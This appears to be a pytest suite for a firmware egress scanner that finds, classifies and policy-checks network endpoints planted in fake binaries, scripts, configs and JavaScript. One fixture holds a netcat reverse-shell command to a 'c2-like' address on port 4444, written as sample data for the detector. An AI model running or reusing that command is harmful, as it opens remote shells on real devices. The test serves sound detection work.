"""The egress check on a fixture tree: planted endpoints in a stripped binary, a shell script, a UCI config and a
minified JavaScript file, with look-alikes that must stay out; declaration, MUD and policy; no network."""

from __future__ import annotations

import argparse
import json
import re
import socket
from pathlib import Path

import pytest

from veracity.checks.egress import EgressCheck, add_scan_arguments, dataflow_text, options_from
from veracity.egress import ipdata, names, noise, owner, purpose
from veracity.options import ScanOptions
from veracity.patterns import PatternSet
from veracity.testing.memfs import inventory_from

EXAMPLES = Path(__file__).resolve().parents[1] / "examples"


@pytest.fixture(autouse=True)
def no_network(monkeypatch):
    """Any attempt to reach the network fails the test."""

    def refuse(*a, **k):
        raise AssertionError("network access attempted")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)


def _elf(*strings: bytes, wide: tuple[str, ...] = ()) -> bytes:
    """A stripped big-endian MIPS ELF-like blob: an identification header, code-like noise, and the strings."""
    head = b"\x7fELF\x01\x02\x01" + b"\x00" * 9 + b"\x00\x02\x00\x08" + b"\x00" * 32
    body = bytes((i * 37 + 11) % 256 for i in range(600)).replace(b".", b"\x00")
    parts = [head, body]
    for s in strings:
        parts += [b"\x00\x00", s, b"\x00"]
    for w in wide:
        parts += [b"\x00\x00", w.encode("utf-16-le"), b"\x00\x00"]
    parts.append(body)
    return b"".join(parts)


BINARY = _elf(
    b"mqtts://iot.vendor-cloud.cn:8883",
    b"ntp_server", b"pool.ntp.org",
    b"Report bugs to: bug-coreutils@gnu.org",
    b"http://www.gnu.org/licenses/gpl-2.0.html",
    b"xmlns=\"http://schemas.xmlsoap.org/soap/envelope/\"",
    b"firmware version 1.2.3.4",
    b"libc.so.6",
    b"python3 setup.py install",
    b"http://%s/cgi-bin/%s",
    b"server=example.com",
    b"author=Jane Doe <jane@kernel-dev.example.org>",
    b"255.255.255.0",
    b"45.142.212.10:4444",
    b"/bin/sh",
    wide=("https://telemetry.vendor-cloud.cn/v1/collect",),
)
SCRIPT = """#!/bin/sh
# upgrade check; see https://www.ietf.org/rfc/rfc3986.txt
wget -q -O /tmp/fw.bin http://download.vendor-cloud.cn/firmware/latest.bin
ntpclient -h time.vendor-cloud.cn -s
ping -c 1 8.8.4.4 >/dev/null && echo online
ifconfig br-lan 192.168.1.1 netmask 255.255.255.0
# old_server=legacy.vendor-cloud.cn
"""
UCI_CWMP = """config acs 'acs'
\toption url 'http://acs.isp-telecom.com.pk:7547/acs'
\toption username 'cpe'
\toption password 'changeme'
"""
UCI_SYSTEM = """config system
\toption hostname 'OpenWrt'

config timeserver 'ntp'
\tlist server '0.openwrt.pool.ntp.org'
"""
UCI_NETWORK = """config interface 'lan'
\toption ipaddr '192.168.1.1'
\toption netmask '255.255.255.0'

config interface 'wan'
\toption proto 'dhcp'
\tlist dns '1.1.1.1'
"""
JS = (
    '!function(e,t){"use strict";var n="https://analytics.vendor-cloud.cn/track",r=e.style.display,'
    'o=this.name,a=t.info;navigator.sendBeacon(n,JSON.stringify({m:r}));fetch("https://api.vendor-cloud.cn/v2/'
    'device/status").then(function(i){return i.json()});document.getElementById("x").innerHTML=\'<a href="'
    'http://www.vendor-cloud.cn/support">support</a>\';window.open("https://www.vendor-cloud.cn/faq")}(window);'
)
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"></svg>\n'
README = "See https://downloads.example-project.org/ and mail maintainer@example-project.org\n"

FILES = {
    "/usr/bin/cloudd": BINARY,
    "/usr/sbin/fw_check.sh": SCRIPT,
    "/etc/config/cwmp": UCI_CWMP,
    "/etc/config/system": UCI_SYSTEM,
    "/etc/config/network": UCI_NETWORK,
    "/www/js/app.min.js": JS,
    "/www/img/logo.svg": SVG,
    "/usr/share/doc/project/README": README,
}

EXPECTED = {
    # value: (purpose, country)
    "mqtts://iot.vendor-cloud.cn:8883": ("cloud-management", "CN"),
    "https://telemetry.vendor-cloud.cn/v1/collect": ("telemetry", "CN"),
    "pool.ntp.org": ("time", None),
    "45.142.212.10:4444": ("c2-like", ipdata.country("45.142.212.10")),
    "http://download.vendor-cloud.cn/firmware/latest.bin": ("firmware-update", "CN"),
    "time.vendor-cloud.cn": ("time", "CN"),
    "8.8.4.4": ("connectivity-check", "US"),
    "http://acs.isp-telecom.com.pk:7547/acs": ("cloud-management", "PK"),
    "0.openwrt.pool.ntp.org": ("time", None),
    "1.1.1.1": ("dns", "US"),
    "https://analytics.vendor-cloud.cn/track": ("telemetry", "CN"),
    "https://api.vendor-cloud.cn/v2/device/status": ("cloud-management", "CN"),
}
LOOKALIKES = {
    "bug-coreutils@gnu.org": "bug-report-address",
    "http://www.gnu.org/licenses/gpl-2.0.html": "licence-link",
    "http://schemas.xmlsoap.org/soap/envelope/": "xml-namespace",
    "1.2.3.4": "version-number",
    "libc.so": None,  # libc.so.6: never a candidate (followed by .6)
    "setup.py": "file-name",
    "http://%s/cgi-bin/%s": "format-string",
    "example.com": "example",
    "jane@kernel-dev.example.org": "author-credit",
    "255.255.255.0": "network-address",
    "http://www.w3.org/2000/svg": "xml-namespace",
    "legacy.vendor-cloud.cn": "comment",
    "e.style": None,  # e.style.display: never a candidate
    "this.name": "code-identifier",
    "t.info": "weak-suffix",
    "cpe": None,
}


def _scan(tmp_path, files=FILES, options: ScanOptions | None = None, sections=None):
    inv = inventory_from(files, tmp_path, patterns=PatternSet(EgressCheck.PATTERNS))
    sections = {} if sections is None else sections
    findings = list(EgressCheck(options).run(inv, sections))
    return findings, sections


def test_dotted_quads_naming_a_directory_are_version_numbers(tmp_path):
    """A kernel module tree's name is a version wherever it appears; the same quad without such a directory is an
    address. The verdict is the image's, not the file's: the file's own results are kept by its content and path."""
    script = "#!/bin/sh\necho 2.6.36.4\nifconfig eth0 2.6.36.4 up\nnc 45.142.212.10 4444 -e /bin/sh\n"
    files = {"/usr/bin/fw-check": script, "/lib/modules/2.6.36.4/modules.dep": "kernel/x.ko:\n"}
    _, sections = _scan(tmp_path / "a", files)
    assert "2.6.36.4" not in _by_value(sections) and "45.142.212.10" in _by_value(sections)
    version = next(n for n in sections["egress_noise"] if n["rule"] == "version-number")
    assert version["count"] == 2 and version["examples"] == ["2.6.36.4"]
    _, sections = _scan(tmp_path / "b", {"/usr/bin/fw-check": script})
    assert "2.6.36.4" in _by_value(sections)
    assert {n["rule"]: n["count"] for n in sections["egress_noise"]} == {"interface-address": 1}


def test_object_identifiers_are_not_addresses(tmp_path):
    binary = _elf(b"2.5.29.17", b"subjectAltName", b"2.5.4.3", b"1.3.101.112", b"2.5.100.7", b"1.3.6.1:161")
    _, sections = _scan(tmp_path, {"/usr/bin/certtool": binary})
    values = set(_by_value(sections))
    assert not values & {"2.5.29.17", "2.5.4.3", "1.3.101.112"}
    assert {"2.5.100.7", "1.3.6.1:161"} <= values  # outside the arcs, or with a port: addresses
    oid = next(n for n in sections["egress_noise"] if n["rule"] == "object-identifier")
    assert oid["count"] == 3


def _ev(finding) -> str:
    """The endpoint a finding's evidence starts with."""
    return finding.evidence.split(": purpose ", 1)[0]


def _by_value(sections):
    return {e["value"]: e for e in sections["endpoints"]}


def test_planted_endpoints_purpose_and_country(tmp_path):
    findings, sections = _scan(tmp_path)
    eps = _by_value(sections)
    egress = {v: (e["purpose"], e["country"]) for v, e in eps.items() if e["egress"]}
    assert egress == EXPECTED
    # one informational finding per endpoint, on its first place
    infos = {_ev(f): f for f in findings if f.category == "egress.endpoint"}
    assert set(infos) == set(EXPECTED)
    assert all(f.severity == "info" and f.rule == "VER-EGR-001" for f in infos.values())
    assert infos["mqtts://iot.vendor-cloud.cn:8883"].path == "/usr/bin/cloudd"
    assert infos["http://acs.isp-telecom.com.pk:7547/acs"].path == "/etc/config/cwmp"
    assert infos["http://acs.isp-telecom.com.pk:7547/acs"].line == 2
    assert infos["time.vendor-cloud.cn"].path == "/usr/sbin/fw_check.sh"
    # every answer carries its source
    acs = eps["http://acs.isp-telecom.com.pk:7547/acs"]
    assert acs["country_source"].startswith("ccTLD .pk (weak")
    assert eps["8.8.4.4"]["owner"] == "Google" and "known-ips.csv" in eps["8.8.4.4"]["owner_source"]
    c2 = eps["45.142.212.10:4444"]
    assert c2["owner_source"].startswith(ipdata.ASN_SOURCE) and c2["country_source"].startswith(ipdata.COUNTRY_SOURCE)
    assert eps["https://telemetry.vendor-cloud.cn/v1/collect"]["locations"][0]["path"] == "/usr/bin/cloudd"
    assert eps["https://telemetry.vendor-cloud.cn/v1/collect"]["locations"][0]["line"] is None
    assert eps["pool.ntp.org"]["owner"] == "NTP Pool Project"
    assert eps["pool.ntp.org"]["purpose_source"] == "purpose rules: ntp-key"


def test_lookalikes_stay_out(tmp_path):
    _, sections = _scan(tmp_path)
    eps = _by_value(sections)
    for value in LOOKALIKES:
        assert value not in eps or not eps[value]["egress"], value
    dropped = {e["rule"]: set(e["examples"]) for e in sections["egress_noise"]}
    for value, rule in LOOKALIKES.items():
        if rule is not None:
            assert value in dropped.get(rule, set()), (value, rule, dropped)
    assert dropped["documentation-file"] == set()  # README skipped whole, before extraction
    # local addresses are listed as local, never as egress
    assert not any(e["egress"] for e in sections["endpoints"] if e["local"])
    # web-interface links are listed, not judged
    assert eps["https://www.vendor-cloud.cn/faq"]["purpose"] == "web-ui"
    assert eps["https://www.vendor-cloud.cn/faq"]["egress"] is False


def test_dataflow_summary(tmp_path):
    _, sections = _scan(tmp_path)
    flow = {g["country"]: g for g in sections["dataflow"]}
    assert flow["CN"]["count"] == 6
    assert flow["CN"]["purposes"] == ["cloud-management", "firmware-update", "telemetry", "time"]
    assert "/www/js/app.min.js" in flow["CN"]["paths"]
    assert flow["US"]["owners"] == ["Cloudflare", "Google"]
    text = dataflow_text({"dataflow": sections["dataflow"]})
    assert text.startswith("6 endpoints in CN (cloud-management, firmware-update, telemetry, time), ")


def test_declaration_allowed_undeclared_and_never_seen(tmp_path):
    decl = tmp_path / "decl.yaml"
    decl.write_text(
        "version: 1\nendpoints:\n"
        "  - domain: vendor-cloud.cn\n    processing_country: CN\n    processor: Vendor Cloud\n"
        "  - host: '*.pool.ntp.org'\n  - host: pool.ntp.org\n  - ip: 8.8.4.4\n"
        "  - host: never.example-networks.com\n    purpose: firmware-update\n"
        "accounts:\n  - root\n"
        "services:\n  - name: dropbear\n    ports: [22/tcp]\n"
    )
    sections = {
        "accounts": [
            {"name": "root", "uid": 0, "gid": 0, "shell": "/bin/ash", "home": "/root", "password_state": "hash:md5",
             "source": "/etc/shadow"},
            {"name": "support", "uid": 0, "gid": 0, "shell": "/bin/sh", "home": "/tmp", "password_state": "cracked",
             "source": "/etc/passwd"},
            {"name": "nobody", "uid": 65534, "gid": 65534, "shell": "/bin/false", "home": "/var",
             "password_state": "locked", "source": "/etc/passwd"},
        ],
        "services": [
            {"name": "dropbear", "binary": "/usr/sbin/dropbear", "args": [], "ports": [{"proto": "tcp", "port": 22}],
             "auth": "password", "started_by": ["/etc/init.d/dropbear"]},
            {"name": "telnetd", "binary": "/usr/sbin/telnetd", "args": [], "ports": [{"proto": "tcp", "port": 23}],
             "auth": "password", "started_by": ["/etc/init.d/telnet"]},
        ],
    }
    findings, sections = _scan(tmp_path, options=ScanOptions(declaration=decl), sections=sections)
    undeclared = {_ev(f): f for f in findings if f.category == "egress.undeclared"}
    assert set(undeclared) == {"45.142.212.10:4444", "http://acs.isp-telecom.com.pk:7547/acs", "1.1.1.1"}
    assert undeclared["45.142.212.10:4444"].severity == "high"  # c2-like
    assert undeclared["1.1.1.1"].severity == "low"  # dns
    assert undeclared["http://acs.isp-telecom.com.pk:7547/acs"].severity == "medium"
    assert undeclared["http://acs.isp-telecom.com.pk:7547/acs"].path == "/etc/config/cwmp"
    assert {f.rule for f in undeclared.values()} == {"VER-EGR-002"}
    hidden = [f for f in findings if f.category == "account.hidden"]
    assert [(f.rule, f.path) for f in hidden] == [("VER-EGR-005", "/etc/passwd")]
    assert "support" in hidden[0].evidence
    ports = [f for f in findings if f.rule == "VER-EGR-006"]
    assert [(f.path, f.title) for f in ports] == [
        ("/usr/sbin/telnetd", "Port 23/tcp (telnetd) is not in the vendor's declaration")]
    report = {(d["kind"], d["declared"]): d for d in sections["declaration"]}
    assert report[("endpoint", "host never.example-networks.com")]["seen"] is False
    assert report[("endpoint", "domain vendor-cloud.cn")]["seen"] is True
    assert "time.vendor-cloud.cn" in report[("endpoint", "domain vendor-cloud.cn")]["matches"]
    assert report[("account", "root")]["seen"] is True
    assert report[("service", "dropbear")]["seen"] is True


def test_declaration_without_accounts_or_services_judges_only_endpoints(tmp_path):
    decl = tmp_path / "d.json"
    decl.write_text(json.dumps({"version": 1, "endpoints": [{"domain": "vendor-cloud.cn"}]}))
    sections = {"accounts": [{"name": "support", "uid": 0, "shell": "/bin/sh", "password_state": "cracked",
                              "source": "/etc/passwd"}]}
    findings, _ = _scan(tmp_path, options=ScanOptions(declaration=decl), sections=sections)
    assert not [f for f in findings if f.category in ("account.hidden", "service.listener")]


def test_mud_allowed_and_undeclared(tmp_path):
    mud = {
        "ietf-mud:mud": {
            "mud-version": 1, "mud-url": "https://vendor-cloud.cn/ex100.json",
            "from-device-policy": {"access-lists": {"access-list": [{"name": "from-v4"}]}},
            "to-device-policy": {"access-lists": {"access-list": [{"name": "to-v4"}]}},
        },
        "ietf-access-control-list:acls": {"acl": [
            {"name": "from-v4", "type": "ipv4-acl-type", "aces": {"ace": [
                {"name": "cloud", "matches": {"ipv4": {"ietf-acldns:dst-dnsname": "iot.vendor-cloud.cn", "protocol": 6},
                                              "tcp": {"destination-port": {"operator": "eq", "port": 8883}}},
                 "actions": {"forwarding": "accept"}},
                {"name": "ntp", "matches": {"ipv4": {"ietf-acldns:dst-dnsname": "pool.ntp.org", "protocol": 17},
                                            "udp": {"destination-port": {"operator": "eq", "port": 123}}},
                 "actions": {"forwarding": "accept"}},
                {"name": "blocked", "matches": {"ipv4": {"ietf-acldns:dst-dnsname": "api.vendor-cloud.cn"}},
                 "actions": {"forwarding": "drop"}},
            ]}},
            {"name": "to-v4", "type": "ipv4-acl-type", "aces": {"ace": [
                {"name": "dns", "matches": {"ipv4": {"source-ipv4-network": "1.1.1.0/24"}},
                 "actions": {"forwarding": "accept"}},
            ]}},
        ]},
    }
    path = tmp_path / "ex100.json"
    path.write_text(json.dumps(mud))
    findings, sections = _scan(tmp_path, options=ScanOptions(mud=path))
    undeclared = {_ev(f) for f in findings if f.category == "egress.undeclared"}
    assert "mqtts://iot.vendor-cloud.cn:8883" not in undeclared  # dst-dnsname, port 8883
    assert "pool.ntp.org" not in undeclared
    assert "1.1.1.1" not in undeclared  # to-device source network
    assert "https://api.vendor-cloud.cn/v2/device/status" in undeclared  # its ACE drops
    assert "time.vendor-cloud.cn" in undeclared
    seen = {d["declared"]: d["seen"] for d in sections["declaration"]}
    assert seen == {"host iot.vendor-cloud.cn port 8883": True, "host pool.ntp.org port 123": True,
                    "cidr 1.1.1.0/24": True}


def test_policy_allowed_and_forbidden(tmp_path):
    findings, sections = _scan(tmp_path, options=ScanOptions(allow_countries=("CN", "US")))
    cross = {_ev(f): f for f in findings if f.category == "egress.cross-border"}
    # PK (ccTLD) is outside CN/US; the c2 address's country is outside too unless it is CN/US
    assert "http://acs.isp-telecom.com.pk:7547/acs" in cross
    assert cross["http://acs.isp-telecom.com.pk:7547/acs"].rule == "VER-EGR-003"
    assert cross["http://acs.isp-telecom.com.pk:7547/acs"].severity == "high"
    # unknown country (NTP pool) is reported low
    assert cross["pool.ntp.org"].rule == "VER-EGR-004" and cross["pool.ntp.org"].severity == "low"
    assert "time.vendor-cloud.cn" not in cross and "1.1.1.1" not in cross
    states = {e["value"]: e.get("policy") for e in sections["endpoints"] if e["egress"]}
    assert states["time.vendor-cloud.cn"] == "allowed"


def test_policy_file_processors_declared_and_exempt(tmp_path):
    decl = tmp_path / "decl.yaml"
    decl.write_text("version: 1\nendpoints:\n  - domain: vendor-cloud.cn\n    processing_country: PK\n"
                    "    processor: Vendor Cloud PK\n")
    policy = tmp_path / "policy.yaml"
    policy.write_text("version: 1\nname: pk\nusers_in: PK\nallowed_countries: [PK]\ndeclared_processors: true\n"
                      "processors:\n  - name: Cloudflare\n    countries: [US]\n    hosts: [one.one.one.one]\n"
                      "exempt_purposes: [time, dns]\nunknown_country: ignore\n")
    findings, sections = _scan(tmp_path, options=ScanOptions(declaration=decl, policy=policy))
    cross = {_ev(f): f.rule for f in findings if f.category == "egress.cross-border"}
    # declared processor in PK: allowed; time/dns exempt; PK ACS allowed; unknown ignored; the C2 address and the
    # connectivity check (not exempt) are not
    assert cross == {"45.142.212.10:4444": "VER-EGR-003", "8.8.4.4": "VER-EGR-003"}
    states = {e["value"]: e.get("policy") for e in sections["endpoints"] if e["egress"]}
    assert states["https://api.vendor-cloud.cn/v2/device/status"] == "allowed"
    assert states["pool.ntp.org"] == "exempt"


def test_shipped_examples_parse(tmp_path):
    from veracity.egress.declare import load_declaration, load_policy

    decl = load_declaration(EXAMPLES / "declaration.yaml")
    assert len(decl.endpoints) == 6 and [a.name for a in decl.accounts or []] == ["root", "admin"]
    assert decl.services is not None and ("udp", 53) in decl.services[2].ports
    for name in ("policy-pk.yaml", "policy-gcc.yaml"):
        assert load_policy(EXAMPLES / name).allowed_countries


@pytest.mark.parametrize("content, message", [
    ("version: 2\n", "unsupported declaration version"),
    ("endpoints:\n  - {host: a.example-networks.com, ip: 1.2.3.4}\n", "exactly one of"),
    ("endpoints:\n  - {host: a.example-networks.com, processing_country: Narnia}\n", "not an ISO 3166-1"),
    ("endpoints: [\n", "invalid YAML"),
])
def test_broken_declaration_is_reported_not_raised(tmp_path, content, message):
    decl = tmp_path / "bad.yaml"
    decl.write_text(content)
    findings, _ = _scan(tmp_path, options=ScanOptions(declaration=decl))
    problems = [f for f in findings if f.rule == "VER-EGR-007"]
    assert len(problems) == 1 and message in problems[0].evidence
    assert any(f.category == "egress.endpoint" for f in findings)  # the rest of the analysis still ran


def test_geoip_problem_is_reported(tmp_path):
    bad = tmp_path / "bad.mmdb"
    bad.write_bytes(b"not a database")
    findings, _ = _scan(tmp_path, options=ScanOptions(geoip=bad))
    assert [f.rule for f in findings if f.category == "analysis.incomplete"] == ["VER-EGR-007"]


def test_resolve_uses_dns_only_when_asked(tmp_path, monkeypatch):
    calls = []

    def fake(host, *a, **k):
        calls.append(host)
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("8.8.8.8", 0))]

    monkeypatch.setattr(owner.socket, "getaddrinfo", fake)
    files = {"/etc/config/system": "config timeserver 'ntp'\n\tlist server 'time.nowhere-vendor.net'\n"}
    _, sections = _scan(tmp_path, files)
    assert calls == [] and _by_value(sections)["time.nowhere-vendor.net"]["country"] is None
    _, sections = _scan(tmp_path, files, options=ScanOptions(resolve=True))
    ep = _by_value(sections)["time.nowhere-vendor.net"]
    assert calls == ["time.nowhere-vendor.net"]
    assert ep["country"] == "US" and ep["country_source"].startswith("DNS at scan time: 8.8.8.8")


def test_cli_arguments(tmp_path):
    decl = tmp_path / "d.yaml"
    decl.write_text("version: 1\n")
    parser = argparse.ArgumentParser()
    add_scan_arguments(parser)
    args = parser.parse_args(["--declaration", str(decl), "--allow-countries", "pk, ae", "--resolve"])
    opts = ScanOptions(**options_from(args))
    assert opts.declaration == decl and opts.allow_countries == ("PK", "AE") and opts.resolve is True
    assert ScanOptions(**options_from(parser.parse_args([]))) == ScanOptions()
    with pytest.raises(SystemExit):
        parser.parse_args(["--allow-countries", "Pakistan"])


def test_not_applicable_without_files(tmp_path):
    from veracity.checks.base import NotApplicable

    inv = inventory_from({}, tmp_path, patterns=PatternSet(EgressCheck.PATTERNS))
    with pytest.raises(NotApplicable):
        list(EgressCheck().run(inv, {}))


# -- data and rules ---------------------------------------------------------------------------------------


def test_ip_tables():
    assert ipdata.country("8.8.8.8") == "US" and ipdata.asn("8.8.8.8") == (15169, "Google LLC")
    assert ipdata.country("77.88.8.8") == "RU"
    assert ipdata.country("240e::1") == "CN" and ipdata.asn("240e::1")[0] == 4134
    assert ipdata.country("10.0.0.1") is None and ipdata.asn("192.168.1.1") is None


def test_ipv6_table_compares_high_then_low_halves():
    import bisect
    import random
    import struct

    rnd = random.Random(7)
    # clusters of starts sharing their high 64 bits, so that ties on the high half are common
    starts = sorted({(rnd.choice((1, 2, 2**63, 2**64 - 1)) << 64) | rnd.getrandbits(64) for _ in range(300)}
                    | {5 << 64})
    raw = ipdata.MAGIC + bytes((6, ord("c"))) + struct.pack("<I", len(starts))
    raw += b"".join(struct.pack("<Q", s >> 64) for s in starts) + b"".join(struct.pack("<Q", s & (2**64 - 1))
                                                                          for s in starts)
    raw += b"".join(struct.pack("<I", n + 1) for n in range(len(starts)))
    table = ipdata.RangeTable(raw)
    probes = [rnd.getrandbits(128) for _ in range(2000)] + [s + d for s in starts for d in (-1, 0, 1)] + [0]
    for value in probes:
        i = bisect.bisect_right(starts, value) - 1
        assert table.get(value) == (i + 1 if i >= 0 else 0), hex(value)


def test_asn_names_binary_search():
    assert ipdata.asn_name(1) == "Level 3 Communications, Inc."
    assert ipdata.asn_name(15169) == "Google LLC" and ipdata.asn_name(4134)
    assert ipdata.asn_name(0) is None and ipdata.asn_name(2**40) is None
    text = ipdata._asn_lines()
    last = int(text.rstrip(b"\n").rsplit(b"\n", 1)[1].split(b"\t")[0])
    assert ipdata.asn_name(last) is not None and ipdata.asn_name(last + 1) is None


def test_domain_ownership_sources():
    o = owner.Owners()
    a = o.for_host("cdn.jsdelivr.net.example-nothing.cn")
    assert a.owner is None and a.country == "CN" and "weak" in a.country_source
    a = o.for_host("www.tp-link.com")
    assert (a.owner, a.country) == ("TP-Link", "CN") and "vendors.csv" in a.owner_source
    a = o.for_host("vortex.data.microsoft.com")
    assert a.owner == "Microsoft" and a.purpose == "telemetry" and "NextDNS" in a.purpose_source
    assert o.for_host("foo.example-unknown.io").country is None  # generic ccTLD: no fallback


def test_a_tracker_list_category_is_a_purpose_only_when_it_says_what_the_host_does():
    o = owner.Owners()
    # WhoTracks.me files GitHub and support desks under "customer_interaction": who runs them, not telemetry
    for host in ("github.com", "raw.githubusercontent.com", "intercom.io"):
        a = o.for_host(host)
        assert a.owner and a.country == "US" and a.purpose is None, host
    assert o.for_host("www.google-analytics.com").purpose == "telemetry"  # "site_analytics" is


def test_every_curated_row_has_a_source():
    for name in ("companies.csv", "vendors.csv", "known-ips.csv"):
        rows = owner._csv(name)
        assert rows and all(r["source"].startswith("http") for r in rows), name
    companies = owner.companies()
    assert all(r["company"] in companies for r in owner._csv("vendors.csv"))
    assert all(r["company"] in companies for r in owner._csv("known-ips.csv"))


def test_purpose_rules_are_valid():
    known, rules = purpose.catalogue()
    assert len({r.id for r in rules}) == len(rules)
    assert {r.purpose for r in rules} <= set(known)


def test_noise_rules_named_and_unique():
    ids = [r.id for r in noise.RULES]
    assert len(ids) == len(set(ids)) and all(r.reason for r in noise.RULES)


def test_psl_offline_snapshot():
    assert names.registrable("www.tp-link.com.cn") == "tp-link.com.cn"
    assert names.is_strong("qq.com") and not names.is_strong("libc.so") and not names.is_strong("logging.info")
    assert names.cctld_country("foo.co.uk") == "GB" and names.cctld_country("foo.tv") is None


def _tldextract():
    import tldextract

    # the bundled snapshot only, nothing fetched or written
    return tldextract.TLDExtract(suffix_list_urls=(), cache_dir=None, fallback_to_snapshot=True)


def test_psl_suffixes_read_directly_are_tldextracts():
    """The suffixes the endpoint patterns are made of are read from tldextract's snapshot without tldextract: the
    same ICANN list its extractor holds."""
    extractor = _tldextract()._get_tld_extractor()
    assert names._suffixes() == frozenset(s.lower() for s in extractor.tlds_excl_private)
    assert {"com", "cn", "com.cn", "uk"} <= names._suffixes() and "blogspot.com" not in names._suffixes()


def test_psl_split_is_tldextracts():
    """Registrable domains are worked out without tldextract (its import and tries cost each process a fifth of a
    second): the answers are its own, for names under every rule of the list (wildcards and their exceptions,
    internationalised suffixes in both spellings), private-section names, addresses and URL-like strings."""
    extract = _tldextract()
    hosts = ["", ".", "com", "example.com", "WWW.Example.CO.UK.", "a.b.c.d.example.com.cn", "localhost",
             "192.168.1.1", "999.1.1.1", "1.2.3", "[::1]", "[fe80::1]", "[nothing]", "user@host.example.org:8080",
             "http://Foo.Bar.de/path?q#f", "//cdn.example.net/x", "a\u3002example\uff0ecom", "foo.blogspot.com",
             "x.appspot.com", "foo.xn--fiqs8s", "foo.中国", "xn--bcher-kva.example", "xn--zz.com", "a..com",
             "libc.so", "busybox.sh", "1.2.3.4.5", "www.ck", "a.www.ck", "b.a.ck", "ck", "kobe.jp", "x.y.kobe.jp",
             "city.kobe.jp", "a.city.kobe.jp", "foo.bd", "bar.foo.bd", "-.com", "a.b-.com", "foo.example.invalid"]
    for suffix in sorted(names._suffixes()):
        hosts += [suffix, f"name.{suffix}", f"a.name.{suffix}".replace("*", "w").replace("!", "")]
        if suffix.startswith("!"):
            hosts.append(f"x.{suffix[1:]}")
    # tldextract's answers for names of its private section are those of the ICANN section they fall under
    hosts += ["foo.github.io", "bar.s3.amazonaws.com", "a.b.cloudfront.net"]
    for host in hosts:
        r = extract(host, include_psl_private_domains=False)
        assert names.split(host) == (r.subdomain, r.domain, r.suffix), host


@pytest.mark.parametrize("path, doc", [
    ("/usr/share/man/man8/sshd.8.gz", True),
    ("/usr/man/man1/ls.1", True),
    ("/usr/share/doc/curl/README", True),
    ("/usr/lib/google-cloud-sdk/RELEASE_NOTES", True),
    ("/opt/app/release-notes.txt", True),
    ("/opt/app/release.conf", False),
    ("/lib/libc.so.6", False),
    ("/usr/lib/libcurl.so.4.8.0", False),
    ("/usr/lib/libssl.so.1", False),
    ("/bin/busybox.1", False),
])
def test_manual_pages_are_documentation_but_versioned_libraries_are_code(path, doc):
    assert noise.is_doc_path(path) is doc


def test_arpa_names_and_one_group_ipv6_are_not_endpoints(tmp_path):
    """Seen in a real busybox: "dr.arpa" (a reverse-zone suffix), "aed::" (a word before a scope operator)."""
    binary = (b"\x7fELF\x02\x01\x01" + b"\0" * 57 + b"\0%u.%u.%u.%u.in-ad\0dr.arpa\0" + b"\0Failed\0aed::\0"
              + b"\0relay 2a00:1450:4001:82b::200e\0")
    _, sections = _scan(tmp_path, {"/usr/bin/tool": binary})
    eps = _by_value(sections)
    assert "dr.arpa" not in eps or not eps["dr.arpa"]["egress"]
    assert "aed::" not in eps or not eps["aed::"]["egress"]
    dropped = {e["rule"]: set(e["examples"]) for e in sections["egress_noise"]}
    assert "dr.arpa" in dropped["protocol-identifier"] and dropped["network-address"] == {"aed::"}
    # addresses of several groups are not taken for prefixes
    assert "2a00:1450:4001:82b::200e" not in dropped["network-address"] | dropped.get("junk", set())


@pytest.mark.parametrize("container, reported", [
    (("fw.img", "squashfs@0x0", "/usr/share/doc/tool/NEWS.gz"), False),  # documentation, unpacked
    (("fw.img", "squashfs@0x0", "/etc/tool/defaults.gz"), True),
])
def test_files_unpacked_from_documentation_are_documentation(tmp_path, container, reported):
    files = {"/notes": "fixed uploads to https://telemetry.vendor-cloud.cn/v1/collect\n"}
    inv = inventory_from(files, tmp_path, container=container, fmt="gzip", patterns=PatternSet(EgressCheck.PATTERNS))
    sections: dict = {}
    list(EgressCheck().run(inv, sections))
    assert ("telemetry.vendor-cloud.cn" in {e["host"] for e in sections["endpoints"]}) is reported
    noise_rules = {n["rule"] for n in sections["egress_noise"]}
    assert (noise.DOCUMENTATION_FILE.id in noise_rules) is not reported


def test_plain_searches_before_the_banner_and_description_patterns_change_no_answer():
    import random

    rng = random.Random(11)
    words = ["Copyright", "(C) ", "gcc:", "User-Agent", "web: ", "EMail: ", "homepage:", "Project Page", "compiled",
             "Built with ", "@(#)", "©", "ModelURL", "<URLBase>", "wps_manufacturer_url", "presentation_url", "url",
             "uſer-agent", "compıled", "KOPYRIGHT", " ", "x", "http://a.example/", "\u0130", "\u212a"]
    texts = ["".join(rng.choice(words) for _ in range(rng.randrange(0, 8))) for _ in range(3000)]
    for rx, needles in ((noise._BANNER_TEXT, noise._BANNER_NEEDLES), (noise._DESCRIPTION_TEXT, ("url",))):
        for text in texts:
            assert noise._holds(rx, needles, text) == (rx.search(text) is not None), text


def test_the_assignment_precheck_changes_no_answer():
    import random

    from veracity.egress import context

    rng = random.Random(5)
    pieces = ["url", "host", "a.b", " ", "\t", "\n", "=", "=>", ":=", ":", "==", "!=", "'", '"', "[0]", "-", "x",
              "\u3000", "\u00a0", ">", "<"]
    matched = 0
    for _ in range(5000):
        tail = "".join(rng.choice(pieces) for _ in range(rng.randrange(0, 10)))
        if context._ASSIGN.search(tail) is not None:
            matched += 1
            assert context._ends_like_assignment(tail), repr(tail)
    assert matched > 100


def test_purpose_words_prefilter_never_hides_a_match():
    """The one Hyperscan pass over a context's words reports every words pattern that its regex would find: on
    random texts of the patterns' own words, some with non-ASCII letters (those it leaves to the regexes)."""
    import random

    prefilter = purpose._words_prefilter()
    assert prefilter is not None
    patterns = [re.compile(p) for p in prefilter[1]]
    rng = random.Random(3)
    pieces = ["ntp", "sntp", "time server", "timeserver", "rdate", "ota", "firmware", "upgrade", "fw_update",
              "mqtt", "tr-069", "cwmp", "xmpp", "ping", "online check", "ddns", "no-ip", "tzo", "nameserver",
              "dport 53", "resolv.conf", "telemetry", "crash report", "heartbeat", "é", "ü", "_", "1", " ", ".",
              "-", "x", "sysupgrade", ".bin", ".img", "mtd write", "update"]
    texts = ["".join(rng.choice(pieces) for _ in range(rng.randrange(0, 12))) for _ in range(5000)]
    found = 0
    for text in texts:
        maybe = purpose._words_maybe(text)
        for tag, rx in enumerate(patterns):
            if rx.search(text):
                found += 1
                assert tag in maybe, (rx.pattern, text)
    assert found > 1000
